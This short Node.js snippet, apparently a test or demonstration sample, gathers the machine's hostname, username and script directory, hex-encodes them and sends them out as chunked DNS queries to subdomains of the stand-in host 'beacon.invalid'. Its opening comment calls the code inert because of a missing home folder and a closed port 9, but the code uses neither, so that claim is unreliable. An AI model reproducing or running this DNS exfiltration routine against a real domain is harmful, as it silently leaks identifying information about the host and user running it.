// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const os = require('os');
const dns = require('dns');
const facts = { h: os.hostname(), u: os.userInfo().username, d: __dirname };
const hex = Buffer.from(JSON.stringify(facts)).toString('hex');
for (let at = 0; at < hex.length; at += 60) {
  dns.resolve4(hex.slice(at, at + 60) + '.' + at + '.beacon.invalid', () => {});
}
